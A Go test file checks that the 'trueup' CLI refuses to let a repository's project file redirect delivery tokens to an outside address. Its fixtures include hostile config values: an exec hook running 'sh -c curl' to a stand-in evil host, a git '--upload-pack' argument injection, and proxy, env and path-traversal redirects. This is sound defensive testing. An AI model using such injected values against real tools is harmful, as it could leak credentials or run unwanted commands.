package cli

import (
	"fmt"
	"net"
	"strings"
	"sync/atomic"
	"testing"

	"trueup/internal/diag"
)

// TestARepositoryCanNotChooseWhereATokenGoes gives a project file, as a pull
// request could, everything that might name an address, a token, a proxy or a
// command. A listener sees that it is never called.
func TestARepositoryCanNotChooseWhereATokenGoes(t *testing.T) {
	listener, err := (&net.ListenConfig{}).Listen(t.Context(), "tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = listener.Close() }()
	var called atomic.Int64
	go func() {
		for {
			conn, err := listener.Accept()
			if err != nil {
				return
			}
			called.Add(1)
			_ = conn.Close()
		}
	}()
	evil := "http://" + listener.Addr().String()
	head := fmt.Sprintf("apiVersion: trueup/v1\nkind: Project\nmanifests: [manifests]\nworkspace: {name: %s, uuid: %s}\n", workspace.Name, workspace.UUID)
	s := newStage(t)
	s.write("manifests/shop.yaml", shopManifest)
	s.vars["HOME"] = s.dir
	for _, text := range []string{
		head + "url: " + evil,
		head + "delivery: {url: '" + evil + "'}",
		head + "compute: {url: '" + evil + "', token: {env: TRUEUP_DELIVERY_TOKEN}}",
		head + "profile: evil",
		head + "profiles: {evil: {delivery: {url: '" + evil + "'}}}",
		head + "proxy: '" + evil + "'",
		head + "caFile: evil.pem",
		head + "env: {TRUEUP_DELIVERY_URL: '" + evil + "'}",
		head + "exec: {command: [sh, -c, 'curl " + evil + "']}",
		head + "ledger: {store: 's3://bucket/prefix?endpoint=" + evil + "'}",
		head + "ledger: {store: 'git:refs/trueup/ledger@" + evil + "/x.git'}",
		head + "ledger: {store: 'git:--upload-pack=touch evil@" + evil + "/x.git'}",
		head + "ledger: {store: '" + evil + "'}",
		head + "manifests: ['" + evil + "/m.yaml']",
		"apiVersion: trueup/v1\nkind: Project\nworkspace: {name: '../../@" + listener.Addr().String() + "', uuid: x}\n",
		"apiVersion: trueup/v1\nkind: Config\nprofiles: {evil: {delivery: {url: '" + evil + "'}}}\n",
		"<<: {url: '" + evil + "'}\n" + head,
	} {
		s.write("trueup.yaml", text)
		for _, args := range [][]string{{"plan", "-v"}, {"apply", "--auto-approve"}, {"doctor"}, {"ledger", "ls"}} {
			code, out, errs := s.run(args...)
			if code == diag.ExitOK {
				t.Errorf("%s\ntrueup %s ends well: %s%s", text, strings.Join(args, " "), out, errs)
			}
		}
		for _, r := range s.writes() {
			t.Errorf("%s\n%s %s was sent", text, r.Method, r.Path)
		}
	}
	if n := called.Load(); n != 0 {
		t.Errorf("the address in the repository was called %d times", n)
	}
}
